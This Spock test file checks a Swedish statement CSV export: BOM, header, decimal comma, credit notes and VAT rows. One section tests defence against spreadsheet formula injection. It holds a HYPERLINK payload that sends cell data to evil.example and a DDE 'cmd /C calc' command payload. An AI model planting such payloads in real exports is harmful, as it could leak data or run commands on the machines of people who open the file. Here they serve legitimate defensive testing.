package se.familycentre.statement

import io.micronaut.http.client.HttpClient
import io.micronaut.http.client.annotation.Client
import io.micronaut.test.extensions.spock.annotation.MicronautTest
import jakarta.inject.Inject
import se.familycentre.invoicing.StatementApi
import spock.lang.Specification

/**
 * GET /api/v1/statements/{id}.csv: what Swedish finance staff open in Excel.
 * UTF-8 with a BOM, semicolons, one row per statement line, a decimal comma,
 * no thousands separator, an ASCII minus; the shares add up to the total.
 */
@MicronautTest(transactional = false)
class StatementCsvSpec extends Specification {

    static final List<String> HEADER = ['Nummer', 'Typ', 'Krediterar', 'Datum', 'Förfallodatum', 'Period', 'Från',
                                        'Till', 'Familjecentral', 'Säljare org.nr', 'Säljare', 'Mottagare org.nr',
                                        'Mottagare', 'Verksamhet', 'Kostnadsställe', 'Bokförs hos', 'Motpart org.nr',
                                        'Motpart', 'Konto', 'Pool', 'Kostnadspost', 'Fördelningsgrund', 'Vikt', 'Moms',
                                        'Andel']
    static final List<String> RULES = ['Lika delar', 'Yta', 'Procent', 'Bärs av en verksamhet']
    static final String AMOUNT = /-?\d+,\d{2}/

    @Inject
    @Client("/")
    HttpClient http

    StatementApi getApi() {
        new StatementApi(http)
    }

    /** Splits CSV text (semicolons, CRLF, double quotes doubled inside quoted cells) into rows of cells. */
    static List<List<String>> parse(String text) {
        List<List<String>> rows = []
        List<String> row = []
        StringBuilder cell = new StringBuilder()
        boolean quoted = false
        int i = 0
        while (i < text.length()) {
            char c = text.charAt(i)
            if (quoted) {
                if (c == '"' as char && i + 1 < text.length() && text.charAt(i + 1) == '"' as char) {
                    cell.append('"')
                    i++
                } else if (c == '"' as char) {
                    quoted = false
                } else {
                    cell.append(c)
                }
            } else if (c == '"' as char) {
                quoted = true
            } else if (c == ';' as char) {
                row << cell.toString()
                cell.setLength(0)
            } else if (c == '\r' as char && i + 1 < text.length() && text.charAt(i + 1) == '\n' as char) {
                row << cell.toString()
                cell.setLength(0)
                rows << row
                row = []
                i++
            } else {
                cell.append(c)
            }
            i++
        }
        assert cell.length() == 0 && row.isEmpty(): 'the last row must end with CRLF'
        rows
    }

    static BigDecimal decimal(String swedish) {
        new BigDecimal(swedish.replace(',', '.'))
    }

    static String comma(Object amount) {
        ((amount as Map).amount as String).replace('.', ',')
    }

    /** The CSV of a statement: checks the BOM and the header, returns the data rows as maps by column. */
    List<Map<String, String>> csv(long id) {
        rowsOf(api.get("/api/v1/statements/${id}.csv"))
    }

    /** A CSV answer: checks the BOM and the header, returns the data rows as maps by column. */
    static List<Map<String, String>> rowsOf(StatementApi.Answer answer) {
        assert answer.status == 200
        assert answer.header('Content-Type').startsWith('text/csv')
        assert answer.header('Content-Disposition').contains('.csv')
        byte[] bytes = answer.bytes
        assert bytes.length > 3 && (bytes[0] & 0xFF) == 0xEF && (bytes[1] & 0xFF) == 0xBB && (bytes[2] & 0xFF) == 0xBF
        String text = new String(bytes, 3, bytes.length - 3, 'UTF-8')
        assert !text.contains('\uFEFF')
        List<List<String>> rows = parse(text)
        assert rows.first() == HEADER
        rows.drop(1).collect { List<String> r ->
            assert r.size() == HEADER.size(): "row $r"
            [HEADER, r].transpose().collectEntries { it } as Map<String, String>
        }
    }

    def "an issued statement's CSV: BOM, the header, one row per line, decimal comma, shares adding up to the total"() {
        given:
        long centre = api.importCentre(StatementApi.EXAMPLE_A)
        List<Map> issued = api.issued(centre)

        expect:
        issued.every { Map s ->
            List<Map<String, String>> rows = csv(s.id as long)
            List<Map> lines = s.content.lines as List<Map>
            assert rows.size() == lines.size()
            [rows, lines].transpose().every { Map<String, String> row, Map line ->
                assert row.Nummer == s.number
                assert row.Typ == 'faktura'
                assert row.Krediterar == ''
                assert row.Datum == s.issuedOn
                assert row['Förfallodatum'] == s.dueOn
                assert row.Period == '2025-Q1'
                assert row['Från'] == '2025-01-01' && row.Till == '2025-03-31'
                assert row.Familjecentral == s.content.centre
                assert row['Säljare org.nr'] == s.content.creditor.organisationNumber
                assert row['Säljare'] == s.content.creditor.name
                assert row['Mottagare org.nr'] == s.content.debtor.organisationNumber
                assert row['Mottagare'] == s.content.debtor.name
                assert row.Pool == SwedishTerms.pool(se.familycentre.allocation.Pool.valueOf(line.pool as String))
                assert line.origin == 'COST_LINE' ? row.Kostnadspost.startsWith(line.lineName as String)
                        : row.Kostnadspost.startsWith(SwedishTerms.origin(se.familycentre.allocation.LineOrigin.valueOf(line.origin as String)))
                assert row.Andel == comma(line.share)
                assert row.Andel ==~ AMOUNT
                assert row['Fördelningsgrund'].split(' \\+ ').every { it in RULES }
                assert row.Vikt ==~ /[\d,]+ av [\d,]+.*/
                assert row['Bokförs hos'] == s.content.debtor.organisationNumber
                assert row['Motpart org.nr'] == s.content.creditor.organisationNumber
                assert row.Motpart == s.content.creditor.name
                assert row.Konto == '6990'
                assert row.Moms == '0 % (utanför momsens tillämpningsområde)'
                true
            }
            assert rows.sum { decimal(it.Andel) } == StatementApi.sek(s.content.total)
            true
        }
    }

    def "the region's statement of example A: the shares of RULES §6 without thousands separators"() {
        given:
        long centre = api.importCentre(StatementApi.EXAMPLE_A)
        Map big = StatementApi.between(api.issued(centre), StatementApi.MUNICIPALITY, StatementApi.REGION)

        when:
        List<Map<String, String>> rows = csv(big.id as long)

        then: 'BMM and BVC each owe a quarter of ÖF\'s salary line, 31 500,00, written 31500,00'
        rows.findAll { it.Pool == 'Samordnare' && it.Kostnadspost == 'Samordnarens lön' }*.Andel == ['31500,00', '31500,00']
        String rent = big.content.lines.find { it.lineId == 'rent' }.lineName
        rows.findAll { it.Kostnadspost == rent }*.Andel == ['6171,43', '9257,14']
        rows.findAll { it.Kostnadspost == rent }*.Vikt == ['40 av 210', '60 av 210']
        rows.findAll { it.Kostnadspost == rent }*.'Fördelningsgrund' == ['Yta', 'Yta']
        rows.every { !it.Andel.contains(' ') && !it.Andel.contains('\u00A0') && !it.Andel.contains('.') }
        rows.sum { decimal(it.Andel) } == 111592.85
    }

    def "a credit statement's CSV carries the negated shares with an ASCII minus"() {
        given:
        long centre = api.importCentre(StatementApi.EXAMPLE_A)
        Map original = StatementApi.between(api.issued(centre), StatementApi.MUNICIPALITY, StatementApi.REGION)
        Map credit = api.credit(original.id as long).json as Map

        when:
        def answer = api.get("/api/v1/statements/${credit.id}.csv")
        List<Map<String, String>> rows = csv(credit.id as long)

        then:
        !answer.text.contains('\u2212')
        rows.size() == original.content.lines.size()
        rows.every { it.Nummer == credit.number && it.Andel.startsWith('-') && it.Andel ==~ AMOUNT }
        rows*.Andel == original.content.lines.collect { '-' + comma(it.share) }
        rows.every { it.Typ == 'kredit' && it.Krediterar == original.number }
        rows.sum { decimal(it.Andel) } == -111592.85
        rows.sum { decimal(it.Andel) } == StatementApi.sek(credit.content.total)
    }

    def "a cell holding a semicolon or a quote is quoted, so the columns stay in place"() {
        given:
        String doc = StatementApi.EXAMPLE_A.replace('"name": "RULES §6 example A"', '"name": "Familjecentralen \\"Solen\\"; Öst"')
        long centre = api.importCentre(doc)
        Map s = api.issued(centre).first()

        when:
        def raw = new String(api.get("/api/v1/statements/${s.id}.csv").bytes, 'UTF-8')
        List<Map<String, String>> rows = csv(s.id as long)

        then:
        raw.contains('"Familjecentralen ""Solen""; Öst"')
        rows.every { it.Familjecentral == 'Familjecentralen "Solen"; Öst' && it.Andel ==~ AMOUNT }
    }

    // ---- CSV injection (OWASP): text a spreadsheet would run as a formula --------------------

    static final String HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
    static final String CALC = "@SUM(1+1)*cmd|' /C calc'!A0"

    def "a name that a spreadsheet would run as a formula is written as text: a single quote in front, quoted"() {
        given: 'example A with the centre, a debtor service and a cost line named as formulas'
        Map doc = new groovy.json.JsonSlurper().parseText(StatementApi.exampleA(StatementApi.orgNo(), StatementApi.orgNo())) as Map
        doc.centre.name = HYPERLINK
        doc.centre.services.find { it.id == 'BMM' }.name = CALC
        doc.centre.costLines.find { it.id == 'rent' }.name = '+SUM(A1:A9)'
        doc.centre.costLines.find { it.id == 'cleaning' }.name = '-2+3'
        long centre = api.importCentre(groovy.json.JsonOutput.toJson(doc))
        String municipality = doc.centre.entities[1].organisationNumber
        String region = doc.centre.entities[0].organisationNumber
        Map big = StatementApi.between(api.issued(centre), municipality, region)

        when:
        String raw = new String(api.get("/api/v1/statements/${big.id}.csv").bytes, 'UTF-8')
        List<Map<String, String>> rows = csv(big.id as long)

        then: 'the cells start with a single quote and are quoted, their quotes doubled'
        raw.contains(';"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Klicka"")";')
        raw.contains(';"\'@SUM(1+1)*cmd|\' /C calc\'!A0";')
        raw.contains(';"\'+SUM(A1:A9)";')
        raw.contains(';"\'-2+3";')

        and: 'no cell a spreadsheet reads starts with a formula character, save the amounts'
        rows.every { Map<String, String> row ->
            row.findAll { k, v -> k != 'Andel' }.values().every { !(it ==~ /(?s)[=+\-@\t\r].*/) }
        }
        rows.every { it.Familjecentral == "'" + HYPERLINK }
        rows.findAll { it.Verksamhet.contains('SUM') }*.Verksamhet.unique() == ["'" + CALC]
        rows.any { it.Kostnadspost == "'+SUM(A1:A9)" }
        rows.any { it.Kostnadspost == "'-2+3" }
        rows.every { it.Andel ==~ AMOUNT }
    }

    def "a negative amount is a number, never prefixed; text cells starting with a tab or a carriage return are"() {
        given: 'a credit statement written directly, with text the import would refuse'
        def period = new se.familycentre.allocation.Period(java.time.LocalDate.parse('2025-01-01'), java.time.LocalDate.parse('2025-03-31'))
        def segment = new se.familycentre.allocation.Allocation.Segment(period.from(), period.to(), 90,
                se.familycentre.allocation.Allocation.SegmentRule.EQUAL, 1000.00G,
                [new se.familycentre.allocation.Allocation.Weight('a', 1G), new se.familycentre.allocation.Allocation.Weight('b', 1G)])
        def line = new StatementLine('l', '\tTabbed line', se.familycentre.allocation.LineOrigin.COST_LINE,
                se.familycentre.allocation.Pool.JOINT, 'b', se.familycentre.allocation.Sek.sek(-2469.12G), [segment], 'a',
                se.familycentre.allocation.Sek.sek(-1234.56G))
        def statement = new Statement('\rCentre', period, new Party('212000-1561', '-Kommunen', null, null, 30),
                new Party('232100-0131', 'Region', null, null, 30), [new Statement.ServiceRef('a', 'CHILD_HEALTH', 'A', null)],
                [new Statement.ServiceRef('b', 'OPEN_PRESCHOOL', 'B', null)], [line],
                [(se.familycentre.allocation.Pool.JOINT): se.familycentre.allocation.Sek.sek(-1234.56G)],
                se.familycentre.allocation.Sek.sek(-1234.56G))

        when:
        def document = new StatementDocument(StatementDocument.Kind.CREDIT, '2025-0002',
                java.time.LocalDate.parse('2025-04-02'), statement, '2025-0001', java.time.LocalDate.parse('2025-04-01'),
                [], null, [])
        String raw = new String(StatementCsv.write(document), 'UTF-8')
        List<String> cells = parse(raw.substring(1))[1]

        then:
        cells[1] == 'kredit'
        cells[2] == '2025-0001'
        cells[8] == "'\rCentre"
        cells[10] == "'-Kommunen"
        cells[17] == "'-Kommunen"
        cells[20] == "'\tTabbed line"
        cells[24] == '-1234,56'
        raw.endsWith(';-1234,56\r\n')
        !raw.contains("'-1234") && !raw.contains("'-2469")
    }

    // ---- posting columns and VAT ---------------------------------------------------------------

    def "a STANDARD VAT creditor: one VAT row per statement on the VAT account, the shares and VAT adding up to what is paid"() {
        given: 'example A whose municipality charges 25 % VAT and posts its revenue to 3590'
        String region = StatementApi.orgNo()
        String municipality = StatementApi.orgNo()
        String vatNumber = 'SE' + municipality.replace('-', '') + '01'
        assert api.post('/api/v1/entities', groovy.json.JsonOutput.toJson([organisationNumber: municipality,
                name: 'Kommunen', invoicing: [bankgiro: '5050-1055', vatTreatment: 'STANDARD', vatNumber: vatNumber,
                accounts: [revenue: '3590']]])).status == 201
        long centre = api.importCentre(StatementApi.exampleA(region, municipality))
        Map big = StatementApi.between(api.issued(centre), municipality, region)

        when: 'the debtor\'s file (the statement download) and the creditor\'s (its quarter)'
        List<Map<String, String>> debtorRows = csv(big.id as long)
        List<Map<String, String>> creditorRows = rowsOf(api.get("/api/v1/entities/${municipality}/statements.csv?period=2025-Q1"))
                .findAll { it.Nummer == big.number && it['Säljare org.nr'] == municipality }

        then: '111 592,85 net and 27 898,21 VAT (25 %, rounded once): 139 491,06 to pay'
        debtorRows.size() == big.content.lines.size() + 1
        debtorRows.last().Kostnadspost == 'Moms 25 %'
        debtorRows.last().Andel == '27898,21'
        debtorRows.last().Konto == '2641'
        debtorRows.sum { decimal(it.Andel) } == 139491.06
        debtorRows.every { it.Moms == '25 %' && it['Bokförs hos'] == region && it['Motpart org.nr'] == municipality }
        debtorRows.dropRight(1).every { it.Konto == '6990' }

        and: 'the creditor posts the same rows to its revenue and output VAT accounts, with the debtor as counterparty'
        creditorRows.size() == debtorRows.size()
        creditorRows*.Andel == debtorRows*.Andel
        creditorRows.dropRight(1).every { it.Konto == '3590' && it['Bokförs hos'] == municipality && it.Motpart == 'Västra Götalandsregionen' }
        creditorRows.last().Konto == '2611'

        when: 'it is credited'
        Map credit = api.credit(big.id as long).json as Map
        List<Map<String, String>> creditRows = csv(credit.id as long)

        then: 'the VAT is negated with the shares'
        creditRows.last().Andel == '-27898,21'
        creditRows.sum { decimal(it.Andel) } == -139491.06
    }
}
